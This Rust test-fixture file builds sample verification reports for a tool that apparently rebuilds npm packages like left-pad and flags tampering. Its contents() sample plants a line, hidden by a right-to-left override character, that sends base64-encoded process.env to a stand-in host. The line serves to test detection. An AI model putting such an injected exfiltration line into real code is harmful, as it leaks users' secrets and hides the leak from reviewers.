//! Reports of every state and verdict class, made by the core's own judge from observations, for the tests of the pages.

use countersign_core::{
    Sha256, Sha512, Timestamp,
    artifact::{Access, Subject},
    cause::Cause,
    compare::{Comparison, Counts, FileComparison, Level, Status, Tolerated},
    finding::{Code, Finding},
    manifest::FileRecord,
    plan::{Clock, Install, PACKED, Plan, Step, Why},
    policy::Policy,
    protocol::Judged,
    rebuild::{Ending, NetworkRequest, Phase, Rebuild, RequestOutcome},
    report::{ArtifactPart, Enforcement, Frame, Next, Report, State},
    source::{Directory, Evidence, EvidenceKind, Source, Trust},
    toolchain::Tool,
    verdict::{Observations, Timings, judge},
};

use super::stage::{Approval, Stage};

const COMMIT: &str = "4f2c9e1d6b8a70e5c3f1a2b4d6e8f0a1b3c5d7e9";
/// When the pages of the tests are looked at.
pub(crate) const NOW: Timestamp = Timestamp::from_seconds(1_795_000_000);
/// The stage of every sample.
pub(crate) const ID: &str = "019a8f3e-6c1d-7b52-9f04-5d2e8c7a1b36";

fn subject() -> Subject {
    Subject {
        registry: "https://registry.npmjs.org".to_owned(),
        name: "left-pad".parse().unwrap(),
        version: "1.3.1".parse().unwrap(),
        sha512: Sha512::of(b"left-pad-1.3.1.tgz"),
        manifest_sha256: Some(Sha256::of(b"manifest")),
        dist_tag: Some("latest".to_owned()),
        access: Some(Access::Public),
    }
}

fn frame(state: State, next: &str) -> Frame {
    let links = [("log".to_owned(), format!("/v1/verifications/{ID}/log"))].into();
    let who = if state.is_final() { "maintainer" } else { "nobody" };
    Frame {
        id: ID.to_owned(),
        state,
        next: Next { who: who.to_owned(), what: next.to_owned(), command: None, url: None },
        links,
        artifact: ArtifactPart::of(&subject(), None, Some(8_214)),
        enforcement: Enforcement::Enforced,
        attempts: 1,
    }
}

fn source() -> Source {
    Source {
        trust: Trust::Enrolled,
        repository: "https://github.com/left-pad/left-pad".parse().unwrap(),
        directory: Directory::default(),
        tag: "v1.3.1".to_owned(),
        commit: COMMIT.to_owned(),
        commit_time: NOW.plus_seconds(-3_600),
        enrolment_revision: Some(3),
        evidence: vec![
            Evidence {
                kind: EvidenceKind::Tag,
                commit: COMMIT.to_owned(),
                agrees: true,
                detail: "The tag v1.3.1 names this commit, which is on main.".to_owned(),
            },
            Evidence {
                kind: EvidenceKind::GitHead,
                commit: COMMIT.to_owned(),
                agrees: true,
                detail: "npm wrote this commit when it packed.".to_owned(),
            },
        ],
    }
}

fn step(argv: &[&str]) -> Step {
    Step {
        argv: argv.iter().map(|&argument| argument.to_owned()).collect(),
        cwd: Directory::default(),
        env: Vec::new(),
    }
}

fn plan() -> Plan {
    let tool = |name: &str, version: &str| Tool::named(name, version).unwrap();
    Plan {
        node: tool("node", "22.23.3"),
        npm: tool("npm", "11.19.1"),
        package_manager: tool("npm", "11.19.1"),
        packer: tool("npm", "11.19.1"),
        directory: Directory::default(),
        install: Install::Lockfile {
            directory: Directory::default(),
            lockfile: "package-lock.json".to_owned(),
            argv: ["npm", "ci"].map(str::to_owned).to_vec(),
        },
        build: vec![step(&["npm", "run", "build"])],
        pack: step(&["npm", "pack", "--pack-destination", PACKED]),
        cutoff: NOW.plus_seconds(-3_600),
        clock: Clock::Real,
        put_back: false,
        why: vec![
            Why { choice: "node 22.23.3".into(), because: "engines.node asks for 22".into() },
            Why {
                choice: "npm ci".into(),
                because: "package-lock.json lies beside package.json".into(),
            },
        ],
    }
}

fn rebuilt(ending: Ending) -> Rebuild {
    Rebuild {
        peak_memory_bytes: Some(312_000_000),
        root_image: "the host's /usr, read-only".to_owned(),
        ..Rebuild::ended(ending)
    }
}

fn observed(ending: Ending) -> Observations {
    Observations {
        source: Some(source()),
        findings: Vec::new(),
        plan: Some(plan()),
        other_candidates: Vec::new(),
        again: None,
        history: None,
        rebuild: Some(rebuilt(ending)),
        mends: Vec::new(),
        undetermined: None,
        timings: Timings {
            fetch: Some(312),
            checkout: Some(1_480),
            install: Some(9_300),
            build: Some(12_400),
            pack: Some(820),
            compare: Some(43),
            total: Some(24_900),
        },
    }
}

fn record(text: &str) -> FileRecord {
    FileRecord {
        executable: false,
        bytes: text.len() as u64 * 97,
        sha256: Sha256::of(text.as_bytes()),
    }
}

fn file(path: &str, status: Status) -> FileComparison {
    let staged = (status != Status::Missing).then(|| record(path));
    let rebuilt = match status {
        Status::Added => None,
        Status::Changed => Some(record("rebuilt")),
        Status::ModeChanged => staged.map(|record| FileRecord { executable: true, ..record }),
        Status::Same | Status::Missing => Some(record(path)),
    };
    FileComparison {
        path: path.to_owned(),
        status,
        staged,
        rebuilt,
        cause: (status != Status::Same).then_some(Cause::StaleBuild),
        because: (status != Status::Same).then(|| "It says `1.3.0`.".to_owned()),
    }
}

const SAME_FILES: [&str; 8] = [
    "LICENSE",
    "README.md",
    "dist/cjs/index.js",
    "dist/cjs/index.js.map",
    "dist/esm/index.js",
    "dist/index.d.ts",
    "package.json",
    "src/index.ts",
];

fn compared(level: Level, others: &[(&str, Status)]) -> Comparison {
    let mut files: Vec<FileComparison> =
        SAME_FILES.iter().map(|path| file(path, Status::Same)).collect();
    files.extend(others.iter().map(|(path, status)| file(path, *status)));
    files.sort_by(|a, b| a.path.cmp(&b.path));
    let mut counts = Counts::default();
    for file in &files {
        match file.status {
            Status::Same => counts.same += 1,
            Status::Added => counts.added += 1,
            Status::Missing => counts.missing += 1,
            Status::Changed => counts.changed += 1,
            Status::ModeChanged => counts.mode_changed += 1,
        }
    }
    Comparison {
        level,
        counts,
        files,
        normalisations: Vec::new(),
        tolerances: Tolerated::default(),
    }
}

fn judged(next: &str, observations: Observations, comparison: Option<Comparison>) -> Report {
    let verdict = judge(&observations, comparison.as_ref(), &Policy::default());
    Report::judged(frame(State::Final, next), &Judged { observations, comparison, verdict })
}

/// A pass with the very bytes.
pub(crate) fn passed() -> Report {
    judged(
        "Look at it and approve with your one-time code, or reject it.",
        observed(Ending::Packed),
        Some(compared(Level::IdenticalTarball, &[])),
    )
}

/// A pass with everything that the sentence has to own up to.
pub(crate) fn passed_with_warnings() -> Report {
    let mut seen = observed(Ending::PackedAfterError {
        step: "npm run build".to_owned(),
        exit_code: 2,
        refused: None,
    });
    let rebuild = seen.rebuild.as_mut().unwrap();
    rebuild.dependencies_pinned = false;
    rebuild.network = vec![NetworkRequest {
        phase: Phase::Build,
        method: "GET".to_owned(),
        target: "telemetry.example.com/ping".to_owned(),
        outcome: RequestOutcome::Refused,
        reason: Some("the build phase has no network".to_owned()),
    }];
    judged(
        "Look at it and approve with your one-time code, or reject it.",
        seen,
        Some(compared(Level::IdenticalFiles, &[])),
    )
}

/// One file changed and one added.
pub(crate) fn tampered() -> Report {
    let others = [("dist/index.js", Status::Changed), ("dist/postinstall.js", Status::Added)];
    judged(
        "Reject this stage, find out who changed `dist/index.js`, stage again.",
        observed(Ending::Packed),
        Some(compared(Level::Different, &others)),
    )
}

/// A build that asked for the network.
pub(crate) fn not_rebuilt() -> Report {
    let mut seen = observed(Ending::NeedsNetwork {
        phase: Phase::Build,
        asked: "`https://example.com/model.bin`".to_owned(),
        missing: false,
    });
    let rebuild = seen.rebuild.as_mut().unwrap();
    rebuild.network = vec![NetworkRequest {
        phase: Phase::Build,
        method: "GET".to_owned(),
        target: "https://example.com/model.bin".to_owned(),
        outcome: RequestOutcome::Refused,
        reason: Some("the build phase has no network".to_owned()),
    }];
    seen.timings.pack = None;
    seen.timings.compare = None;
    judged("Make the build run without network, then stage again.", seen, None)
}

/// A tarball that names another repository.
pub(crate) fn foreign_source() -> Report {
    let message = "`left-pad` names the repository `https://github.com/evil/left-pad`, and `https://github.com/left-pad/left-pad` is enrolled.";
    let seen = Observations {
        findings: vec![Finding::new(Code::SourceNotEnrolled, message)],
        ..Observations::default()
    };
    judged("Reject this stage and find out who staged it.", seen, None)
}

/// A tag that was moved.
pub(crate) fn moved_tag() -> Report {
    let message = "The tag `v1.3.1` names 9b1deb4 now, and named 4f2c9e1 when it was first seen.";
    let seen = Observations {
        source: Some(source()),
        findings: vec![Finding::new(Code::TagMoved, message)],
        ..Observations::default()
    };
    judged("Find out who moved the tag.", seen, None)
}

/// Bytes that are not a tarball.
pub(crate) fn malformed() -> Report {
    let code = Code::from_text("archive-not-gzip").unwrap();
    let message = "the file is not one gzip member: byte 0 is 0x50 where 0x1f was expected.";
    let seen =
        Observations { findings: vec![Finding::new(code, message)], ..Observations::default() };
    judged("Reject this stage; pack with `npm pack` and stage again.", seen, None)
}

/// The git host is down, and we gave up.
pub(crate) fn inconclusive() -> Report {
    let message = "github.com did not answer in 30 s.";
    let seen = Observations {
        undetermined: Some(Finding::new(Code::RepositoryUnavailable, message)),
        ..Observations::default()
    };
    judged("Nothing to mend in the package. Ask for a rerun when the git host is back.", seen, None)
}

/// A report without a verdict yet.
pub(crate) fn pending(state: State) -> Report {
    let (summary, next) = match state {
        State::Queued => {
            ("left-pad 1.3.1 is staged; a worker will take it next.", "Nothing to do yet.")
        }
        State::WaitingForTag => (
            "left-pad 1.3.1 is staged; its tag `v1.3.1` is not there yet. Push it and we go on (47 minutes left).",
            "Push the tag.",
        ),
        State::Running => (
            "left-pad 1.3.1 is being rebuilt from commit 4f2c9e1 (tag v1.3.1).",
            "Nothing to do yet. This page follows by itself.",
        ),
        State::Retrying => (
            "We could not tell about left-pad 1.3.1 yet: the git host did not answer. Trying again in 40 s (2 of 5).",
            "Nothing to do.",
        ),
        State::Final | State::Cancelled => ("left-pad 1.3.1 was withdrawn.", "Stage it again."),
    };
    let mut report = Report::pending(frame(state, next), summary.to_owned());
    if state == State::WaitingForTag {
        report.next.command = Some("git tag v1.3.1 && git push origin v1.3.1".to_owned());
    }
    report
}

/// The stage of a sample, with this approval.
pub(crate) fn stage(approval: Approval) -> Stage {
    Stage {
        id: ID.to_owned(),
        staged_by: "ci-main".to_owned(),
        staged_with: "a token of trusted automation".to_owned(),
        staged_at: NOW.plus_seconds(-12 * 60),
        verdict_id: Some("019a8f40-0000-7000-8000-000000000001".to_owned()),
        approval,
    }
}

/// A gate that is closed for the report's own reason.
pub(crate) fn closed(report: &Report, opens: Option<&str>) -> Stage {
    stage(Approval::Closed {
        reason: report.summary.clone(),
        opens: opens.map(str::to_owned),
        reject: true,
    })
}

/// What a sample's changed file is rebuilt to and staged as.
pub(crate) fn contents() -> (String, String) {
    let head: String = (1..12).map(|line| format!("// line {line} of the licence\n")).collect();
    let rebuilt = format!(
        "{head}export function leftPad(text, length, fill) {{\n  const missing = length - text.length;\n  \
         return missing > 0 ? String(fill).repeat(missing) + text : text;\n}}\n"
    );
    let evil = "text.length; // \u{202e}enod\n  fetch('https://collect.example/' + \
                Buffer.from(JSON.stringify(process.env)).toString('base64'));\n";
    (rebuilt.replace("text.length;\n", evil), rebuilt)
}

/// The difference of a sample's changed file.
pub(crate) fn diff(path: &str) -> super::diff::DiffView {
    let (staged, rebuilt) = contents();
    let diff = countersign_core::diff::unified(Some(staged.as_bytes()), Some(rebuilt.as_bytes()));
    super::diff::DiffView::of(ID, path, &diff)
}

/// Stages of every kind, as the inbox gets them.
pub(crate) fn waiting() -> Vec<super::inbox::Waiting> {
    use super::{badge::Badge, inbox::Waiting};
    use countersign_core::gate::Decision;
    let one = |name: &str, report: &Report, minutes: i64, by: &str| Waiting {
        id: ID.to_owned(),
        name: name.to_owned(),
        version: report.artifact.version.clone(),
        badge: Badge::of(report),
        summary: report.summary.replace("left-pad", name),
        outcome: report.verdict,
        decided: false,
        staged_at: NOW.plus_seconds(-60 * minutes),
        staged_by: by.to_owned(),
    };
    let mut published = one("left-pad", &passed(), 3_000, "ci-main");
    published.version = "1.3.0".to_owned();
    published.badge = Badge::of_decision(Decision::Released, true);
    published.decided = true;
    published.summary = String::new();
    vec![
        one("@pad/core", &pending(State::Running), 1, "ci-main"),
        one("center-pad", &pending(State::WaitingForTag), 13, "grace"),
        one("right-pad", &tampered(), 40, "ci-main"),
        one("left-pad", &passed(), 12, "ci-main"),
        published,
    ]
}

/// The page of a package that always reproduced and now does not.
pub(crate) fn package_page() -> super::package::PackagePage {
    use super::{
        badge::Badge,
        package::{PackagePage, Release},
    };
    use countersign_core::{
        enrolment::{Enrolment, Mode},
        gate::Decision,
    };
    let release = |version: &str, report: &Report, decision, hours: i64| Release {
        id: ID.to_owned(),
        version: version.to_owned(),
        verdict: Badge::of(report),
        decision,
        staged_at: NOW.plus_seconds(-3_600 * hours),
        staged_by: "ci-main".to_owned(),
    };
    let published = Some(Badge::of_decision(Decision::Released, true));
    let releases = vec![
        release("1.3.1", &tampered(), None, 0),
        release("1.3.0", &passed(), published, 700),
        release("1.2.0", &passed(), published, 2_300),
        release("1.1.3", &passed(), published, 4_000),
    ];
    let enrolment = Enrolment {
        package: "left-pad".parse().unwrap(),
        revision: 3,
        repository: "left-pad/left-pad".parse().unwrap(),
        directory: Directory::default(),
        tag_pattern: countersign_core::source::TagPattern::default(),
        branches: vec!["main".to_owned()],
        mode: Mode::Enforce,
        policy: Policy::default(),
        plan: countersign_core::plan::Given::default(),
        confirmed_by: "ada".to_owned(),
        confirmed_at: NOW.plus_seconds(-90 * 86_400),
    };
    let maintainers = ["ada".to_owned(), "grace".to_owned()];
    let viewer = super::gallery::viewer();
    PackagePage::new(viewer, "left-pad", releases, Some(&enrolment), &maintainers, NOW)
}
